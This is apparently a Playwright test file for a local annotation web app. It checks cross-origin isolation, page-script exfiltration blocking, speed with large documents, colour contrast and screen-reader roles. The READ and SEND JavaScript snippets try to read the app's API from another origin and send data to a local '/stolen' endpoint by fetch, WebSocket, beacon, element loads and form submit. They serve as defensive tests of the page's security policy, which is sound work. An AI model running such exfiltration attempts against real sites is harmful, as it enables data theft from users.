"""The annotation page in a real browser at its limits: strangers, script in the page, long texts, many examples, and other eyes."""

from __future__ import annotations

import statistics
import threading
import time
from collections.abc import Iterator
from dataclasses import replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from annotation_browser import Seen, needs_chromium, playwright
from annotation_samples import QUOTES, TOKEN, document_with, make_session, span_of

from corpora.chunking.chunker import ChunkOptions
from raft.examples.reviews import judge
from retrieval.encoders.hashing import HashingEncoder
from retrieval.indexing.add_files import add_files
from serving.annotate.app import create_annotate_app
from serving.annotate.records import AnnotatedQuestion, Label
from serving.annotate.session import AnnotationSession

pytestmark = needs_chromium


@pytest.fixture
def session(collection, tmp_path: Path) -> Iterator[AnnotationSession]:
    made = make_session(collection.store, tmp_path / "w", with_dataset=False)
    yield made
    made.annotations.close()


@pytest.fixture
def reviewing(session: AnnotationSession, tmp_path: Path) -> Iterator[AnnotationSession]:
    made = make_session(session.store, tmp_path / "w")
    yield made
    made.annotations.close()


class Stranger(BaseHTTPRequestHandler):
    """Another program on a port of this machine: gives a page with a link, and keeps what it is sent."""

    link = ""
    asked: list[tuple[str, str]] = []

    def do_GET(self) -> None:
        self.asked.append((self.path, self.headers.get("Cookie", "")))
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(f'<title>elsewhere</title><a href="{self.link}">open</a>'.encode())

    def log_message(self, *words: object) -> None:
        return None


@pytest.fixture
def stranger() -> Iterator[ThreadingHTTPServer]:
    Stranger.asked = []
    server = ThreadingHTTPServer(("127.0.0.1", 0), Stranger)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()
    thread.join()


READ = """async ([url, headers]) => {
  const found = [];
  for (const mode of ["cors", "no-cors"]) {
    try { found.push(await (await fetch(`${url}/api/documents`, { mode, headers, credentials: "include" })).text()); } catch { }
  }
  await new Promise((done) => {
    const script = document.createElement("script");
    script.src = `${url}/api/documents`;
    script.onload = () => { found.push("loaded"); done(); };
    script.onerror = done;
    document.head.append(script);
  });
  return found.filter(Boolean);
}"""


def test_pages_elsewhere_read_nothing_and_a_link_there_still_opens(
    session: AnnotationSession, browser, served, stranger
) -> None:
    context = browser.new_context()
    with served(create_annotate_app(session, TOKEN)) as url:
        page = context.new_page()
        page.goto(f"{url}/")
        playwright.expect(page.get_by_role("heading")).to_have_text("This page is closed")
        Stranger.link = f"{url}/?token={TOKEN}"
        elsewhere = f"http://localhost:{stranger.server_port}/"  # another site than 127.0.0.1
        page.goto(elsewhere)
        page.get_by_role("link").click()
        page.locator(".reader").wait_for()
        assert TOKEN not in page.url
        beside = f"http://127.0.0.1:{stranger.server_port}/"  # the same site, another port: the cookie goes there
        for address in (elsewhere, beside):
            page.goto(address)
            for headers in ({}, {"X-Raftsmith-Key": "guess"}):
                assert page.evaluate(READ, [url, headers]) == []
            assert page.evaluate("localStorage.length") == 0
        cookies = next(cookie for path, cookie in Stranger.asked if cookie)
        answer = context.request.get(f"{url}/api/documents", headers={"Cookie": cookies})
        assert answer.status == 401  # what that port got is half of a session
        context.close()


SEND = """async (out) => {
  const sent = [];
  const attempt = async (name, action) => {
    try {
      await action();
      sent.push(name);
    } catch { }
  };
  const loaded = (tag, key) => new Promise((ok, no) => {
    const node = document.createElement(tag);
    if (tag === "link") node.rel = "stylesheet";
    node.onload = ok;
    node.onerror = no;
    setTimeout(no, 300);
    node[key] = out;
    document.body.append(node);
  });
  await attempt("fetch", () => fetch(out, { mode: "no-cors" }));
  await attempt("socket", () => new Promise((ok, no) => {
    const socket = new WebSocket(out.replace("http", "ws"));
    socket.onopen = ok;
    socket.onerror = no;
  }));
  await attempt("beacon", () => { if (!navigator.sendBeacon(out, "x")) throw 0; });
  const places = { img: "src", script: "src", link: "href", iframe: "src", object: "data", video: "src" };
  for (const [tag, key] of Object.entries(places)) await attempt(tag, () => loaded(tag, key));
  await attempt("markup", () => document.body.insertAdjacentHTML("beforeend", "<b>x</b>"));
  await attempt("inline", () => {
    const script = document.createElement("script");
    script.text = "window.ran = 1";
    document.body.append(script);
    if (!window.ran) throw 0;
  });
  await attempt("form", () => {
    const form = document.createElement("form");
    form.action = out;
    document.body.append(form);
    form.submit();
  });
  await new Promise((done) => setTimeout(done, 500));
  return sent;
}"""


def test_nothing_can_be_sent_elsewhere_even_by_script_in_the_page(
    session: AnnotationSession, browser, served, stranger
) -> None:
    """Promise S12: the browser holds the page to its policy, whatever runs in it."""
    out = f"http://127.0.0.1:{stranger.server_port}/stolen"
    context = browser.new_context()
    with served(create_annotate_app(session, TOKEN)) as url:
        seen = Seen(context.new_page(), url).open()
        tried = seen.page.evaluate(SEND, out)
        assert set(tried) <= {"form", "iframe", "beacon"}  # these do not say that they were stopped
        assert Stranger.asked == [] and seen.page.url == f"{url}/"
        context.close()


def long_text(pages: int) -> str:
    """So many pages of numbered sentences, 3,000 characters each."""
    sentences = ("The supplier keeps item {0} in good repair.", "Notice under item {0} is given in writing within ten days.")
    return "\n\n".join(
        f"Part {page}\n\n" + " ".join(sentences[n % 2].format(f"{page}.{n}") for n in range(60)) for page in range(1, pages + 1)
    )


def test_a_document_of_three_hundred_pages_opens_at_once_and_is_searched(
    session: AnnotationSession, tmp_path: Path, opened
) -> None:
    (tmp_path / "contract.txt").write_text(long_text(300))
    add_files(session.store, tmp_path / "w", HashingEncoder(), [tmp_path / "contract.txt"], "texts", ChunkOptions(45))
    contract = document_with(session.store, "item 300.1 ")
    wanted = "Notice under item 277.31 is given in writing within ten days."
    with opened(replace(session, collection="texts")) as seen:
        seen.keys("/")
        started = time.monotonic()
        seen.write("277.31 writing")
        seen.keys("Enter")
        seen.says("passage 1 of 1")
        assert time.monotonic() - started < 5
        reader = seen.page.locator(".reader")
        assert reader.evaluate("box => box.textContent") == contract.text
        place = "document.getSelection().getRangeAt(0).getBoundingClientRect()"
        top, frame = seen.page.evaluate(f"[{place}.top, document.getElementById('main').getBoundingClientRect()]")
        assert frame["top"] <= top <= frame["bottom"]  # the passage is in sight, with the cursor before it
        at = contract.text.index(wanted)
        chunk = next(c for c in session.store.chunks(contract.id) if c.start <= at < c.end)
        seen.keys(*["ArrowRight"] * (at - chunk.start + 1), "s", "e", *["ArrowLeft"] * 5, *["Shift+ArrowLeft"] * 8, "a")
        seen.write("How?")
        seen.keys("Enter")
        seen.says("question saved")
        started = time.monotonic()
        seen.keys("Control+Home", "Control+End", "Control+Home")
        assert seen.page.evaluate("document.getSelection().toString()") == "" and time.monotonic() - started < 5
        seen.keys("L")
        seen.settled().keys("/")
        seen.write("contract")
        seen.keys("Enter")
        seen.shows("contract")
        seen.settled().keys("j", "j", "j")
        seen.has("#unit", "Passage 3 of")
    (question,) = session.annotations.questions("default")
    assert question.evidence == (span_of(contract, wanted),)
    assert question.answers[0].text == contract.text[at + len(wanted) - 13 : at + len(wanted) - 5].strip()


STEPS = """async ([key, count]) => {
  const times = [];
  for (let i = 0; i < count; i += 1) {
    const before = document.getElementById("title").textContent;
    const began = performance.now();
    document.activeElement.dispatchEvent(new KeyboardEvent("keydown", { key, bubbles: true }));
    while (document.getElementById("title").textContent === before) await new Promise((done) => setTimeout(done, 1));
    await new Promise((done) => requestAnimationFrame(done));
    times.push(performance.now() - began);
  }
  return times;
}"""


def test_five_thousand_examples_stay_quick(reviewing: AnnotationSession, opened) -> None:
    example = next(iter(reviewing.examples.values()))
    many = tuple(replace(example, id=f"e{n}", question=f"Question {n}?") for n in range(1, 5001))
    session = replace(reviewing, dataset=replace(reviewing.dataset, examples=many))
    with opened(session) as seen:
        seen.has("#total", "0 of 5000 reviewed")
        steps = seen.page.evaluate(STEPS, ["j", 250])
        seen.shows("Question 251?")
        verdicts = seen.page.evaluate(STEPS, ["y", 20])
        seen.shows("Question 271?")
        seen.has("#total", "20 of 5000 reviewed: 20 accepted")
        # Bounds for a busy machine; tests/benchmarks/annotation.py measures.
        assert statistics.median(steps[-50:]) < 400 and statistics.median(verdicts) < 800
        seen.keys("/")
        seen.write("Question 4999?")
        seen.keys("Enter")
        seen.shows("Question 4999?")
        assert seen.page.locator("#list li").count() == 1
    assert set(session.annotations.verdicts("d")) == {f"e{n}" for n in range(251, 271)}


CONTRAST = """() => {
  const canvas = document.createElement("canvas").getContext("2d", { willReadFrequently: true });
  const rgb = (color) => {
    canvas.clearRect(0, 0, 1, 1);
    canvas.fillStyle = color;
    canvas.fillRect(0, 0, 1, 1);
    return [...canvas.getImageData(0, 0, 1, 1).data];
  };
  const linear = (c) => (c <= 0.04045 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4);
  const light = ([r, g, b]) => 0.2126 * linear(r / 255) + 0.7152 * linear(g / 255) + 0.0722 * linear(b / 255);
  const behind = (node) => {
    for (let at = node; at; at = at.parentElement) {
      const color = rgb(getComputedStyle(at).backgroundColor);
      if (color[3] === 255) return color;
    }
    return [255, 255, 255];
  };
  const poor = [];
  for (const node of document.querySelectorAll("body *")) {
    const own = [...node.childNodes].some((child) => child.nodeType === 3 && child.textContent.trim());
    if (!own || !node.checkVisibility() || node.matches(":disabled, :disabled *")) continue;
    const [a, b] = [light(rgb(getComputedStyle(node).color)), light(behind(node))].sort((x, y) => y - x);
    if ((a + 0.05) / (b + 0.05) < 4.5) poor.push([node.tagName, node.id, node.textContent.slice(0, 30)]);
  }
  return poor;
}"""


@pytest.mark.parametrize(("scheme", "width"), [("light", 1280), ("dark", 1280), ("light", 800), ("dark", 390)])
def test_everything_is_legible_named_and_reachable(reviewing: AnnotationSession, opened, scheme: str, width: int) -> None:
    lease = document_with(reviewing.store, "deposit")
    reviewing.annotations.save_question(
        "default", AnnotatedQuestion("q", lease.id, "How much?", (span_of(lease, "nine hundred pounds"),), ())
    )
    reviewing.annotations.add_classes("default", ["duty"])
    reviewing.annotations.save_label("default", Label(lease.id, span_of(lease, "Lease"), "duty"))
    example = next(iter(reviewing.examples.values()))
    reviewing.annotations.save_review("d", judge(example, "reject", "", []))
    with opened(reviewing, color_scheme=scheme, viewport={"width": width, "height": 800}) as seen:
        for view in ("R", "L", "Q"):
            seen.keys(view)
            seen.page.locator("[aria-current=page]").get_by_text(
                {"R": "Review", "L": "Labels", "Q": "Questions"}[view]
            ).wait_for()
            seen.page.locator(".reader").first.wait_for()
            seen.page.locator("#show").select_option("all")
            seen.keys("Escape")
            seen.page.locator(f".reader[aria-label*='{'Passage 1' if view == 'R' else 'document'}']").wait_for()
            seen.keys("j")
            assert seen.page.evaluate(CONTRAST) == []
            assert seen.page.evaluate("document.documentElement.scrollWidth - innerWidth") <= 0
            nodes = seen.page.locator("button, input, select, textarea, .reader, progress").all()
            for node in nodes:
                assert not node.is_visible() or node.evaluate(NAME), node.evaluate("node => node.outerHTML")
        seen.keys("?")
        playwright.expect(seen.page.get_by_role("dialog", name="Keys")).to_be_visible()
        assert seen.page.evaluate(CONTRAST) == []
        seen.keys("Escape")
        playwright.expect(seen.page.get_by_role("dialog")).to_be_hidden()


# A name from its own label, or from text that a screen reader reads.
NAME = """(node) => {
  const text = (nodes) => [...nodes].map((each) => (each ? each.textContent : "")).join(" ").trim();
  const by = (node.getAttribute("aria-labelledby") || "").split(" ").map((id) => document.getElementById(id));
  return node.getAttribute("aria-label") || text(by) || text(node.labels || []) || (node.tagName === "BUTTON" ? text([node]) : "");
}"""


def test_the_roles_are_those_a_screen_reader_needs(reviewing: AnnotationSession, opened) -> None:
    with opened(reviewing) as seen:
        page = seen.page
        for role, name in (
            ("navigation", "Tasks"),
            ("main", ""),
            ("region", "List"),
            ("region", "Review"),
            ("button", "Accept"),
            ("button", "Reject"),
            ("textbox", "Answer"),
            ("checkbox", "The documents do not answer"),
            ("searchbox", "Find in questions and answers"),
            ("combobox", "Show"),
            ("progressbar", "0 of 3 reviewed: 0 accepted, 0 edited, 0 rejected"),
            ("status", ""),
            ("alert", ""),
        ):
            playwright.expect(page.get_by_role(role, name=name, exact=True) if name else page.get_by_role(role)).to_have_count(
                1
            )
        boxes = page.get_by_role("textbox", name="Passage")
        playwright.expect(boxes).to_have_count(3)
        assert {box.get_attribute("aria-readonly") for box in boxes.all()} == {"true"}
        assert page.evaluate("getComputedStyle(document.activeElement).outlineStyle") == "solid"  # where the keys go is seen
        # The list is one stop, whatever its length, and arrows move in it.
        page.locator("#show").focus()
        seen.keys("Tab", "ArrowDown")
        playwright.expect(page.get_by_role("button", name=f"2. {QUOTES[1][0]}")).to_be_focused()
        seen.keys("Enter")
        seen.shows(QUOTES[1][0])
        # Letters are letters again for whoever dictates or types by accident (WCAG 2.1.4).
        page.get_by_role("checkbox", name="Single-key shortcuts").uncheck()
        page.locator(".reader").first.focus()
        seen.keys("x", "j")
        seen.shows(QUOTES[1][0])
        assert reviewing.annotations.verdicts("d") == {}
